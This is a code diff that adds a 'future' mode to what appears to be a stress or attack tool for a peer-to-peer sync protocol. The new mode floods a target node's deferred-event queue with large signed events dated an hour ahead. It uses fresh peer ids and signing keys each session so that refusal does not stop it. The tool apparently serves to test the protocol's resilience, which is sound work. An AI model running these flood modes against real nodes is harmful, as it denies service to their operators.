@@ -11,6 +11,10 @@ Modes:
 * ``slowloris``: open many streams and send each hello a byte at a time.
 * ``replay``: claim the victim's body, then answer every reconcile round with
   the same large sketch, session after session (new peer ids when refused).
+* ``future``: claim the victim's body and push events of it dated an hour
+  ahead (past ``max_skew``, so the victim can only defer them), ~58 KB each,
+  a fresh peer id and signing key every session, until ``--mb`` megabytes
+  are sent: a flood of the victim's deferred queue.
 """
 
 from __future__ import annotations
@@ -227,9 +231,79 @@ async def _replay_one(addr: str, seconds: float, body: bytes, rotate: bool, seed
             await trio.sleep(0.2)
 
 
+def future_events(body: bytes, n: int, ahead_ms: int) -> list[Any]:
+    """``n`` proposals in ``body`` by a fresh key, ~58 KB each, dated ``ahead_ms`` from now."""
+    k = SigningKey(os.urandom(32))
+    t = int(time.time() * 1000) + ahead_ms
+    text = "\u00e9" * 29_000  # two bytes each: 58 KB, under MAX_TEXT characters and MAX_EVENT_BYTES
+    evs: list[Any] = []
+    for i in range(n):
+        evs.append(sign_event(k, body=body, ts=t + i, seq=i + 1, prev=[evs[-1].id] if evs else [body],
+                              data=Propose(title=f"f{i}", text=text)))
+    return evs
+
+
+async def future(addr: str, seconds: float, body: bytes, mb: float, per_session: int,
+                 ahead_ms: int) -> dict[str, Any]:
+    out: dict[str, Any] = {"sessions": 0, "sent_events": 0, "sent_bytes": 0, "refused": 0, "errors": {}}
+    deadline = time.monotonic() + seconds
+    goal = int(mb * 1_000_000)
+    n = 0
+    while time.monotonic() < deadline and out["sent_bytes"] < goal and n < 500:
+        n += 1
+        evs = future_events(body, per_session, ahead_ms)
+        items = [(e.ts, e.id) for e in evs]
+        by_id = {e.id: e.raw for e in evs}
+        h, info = await _host(os.urandom(32), addr)  # a fresh peer id each session
+        try:
+            async with h.run([]):
+                with trio.fail_after(max(5.0, deadline - time.monotonic() + 30)):
+                    await h.connect(info)
+                    s = await h.new_stream(info.peer_id, [P])
+                    f = Framed(s)
+                    await s.write(wire.hello("future", [body], []))
+                    await f.frame()
+                    await s.write(wire.offer([body]))
+                    await f.frame()
+                    r = Reconciler(items)
+                    await s.write(wire.rec(r.initiate()))
+                    while True:
+                        m = await f.frame()
+                        if m["t"] != "rec":
+                            code = str(m.get("code"))
+                            out["errors"][code] = out["errors"].get(code, 0) + 1
+                            raise EOFError
+                        reply, _, _ = r.reconcile(m["m"])
+                        if reply is None:
+                            break
+                        await s.write(wire.rec(reply))
+                        if r.done:
+                            break
+                    order = [i for _, i in items if i in r.have]
+
+                    async def drain(fr: Framed) -> None:  # what the victim sends us, read and thrown away
+                        with trio.move_on_after(60):
+                            while (await fr.frame())["t"] != "end":
+                                pass
+
+                    async with trio.open_nursery() as nursery:
+                        nursery.start_soon(drain, f)
+                        for k in range(0, len(order), 4):
+                            raws = [by_id[i] for i in order[k : k + 4]]
+                            await s.write(wire.events_frame(raws))
+                            out["sent_events"] += len(raws)
+                            out["sent_bytes"] += sum(map(len, raws))
+                        await s.write(wire.end())
+                    out["sessions"] += 1
+        except Exception:
+            out["refused"] += 1
+        await trio.sleep(0.05)
+    return out
+
+
 def main() -> None:
     ap = argparse.ArgumentParser()
-    ap.add_argument("mode", choices=["junk", "slowloris", "replay"])
+    ap.add_argument("mode", choices=["junk", "slowloris", "replay", "future"])
     ap.add_argument("addr")
     ap.add_argument("--seconds", type=float, default=10)
     ap.add_argument("--bodies", type=int, default=10)
@@ -238,12 +312,17 @@ def main() -> None:
     ap.add_argument("--identities", type=int, default=1)
     ap.add_argument("--body", default="")
     ap.add_argument("--rotate", action="store_true")
+    ap.add_argument("--mb", type=float, default=100, help="future: megabytes to send in all")
+    ap.add_argument("--per-session", type=int, default=100, help="future: events a session")
+    ap.add_argument("--ahead-ms", type=int, default=3_600_000, help="future: how far ahead")
     a = ap.parse_args()
     quirks.configure_logging("critical")
     if a.mode == "junk":
         res = trio.run(junk, a.addr, a.seconds, a.bodies, a.per_body)
     elif a.mode == "slowloris":
         res = trio.run(slowloris, a.addr, a.seconds, a.streams, a.identities)
+    elif a.mode == "future":
+        res = trio.run(future, a.addr, a.seconds, bytes.fromhex(a.body), a.mb, a.per_session, a.ahead_ms)
     else:
         res = trio.run(replay, a.addr, a.seconds, bytes.fromhex(a.body), a.rotate, a.identities)
     print(json.dumps(res), flush=True)
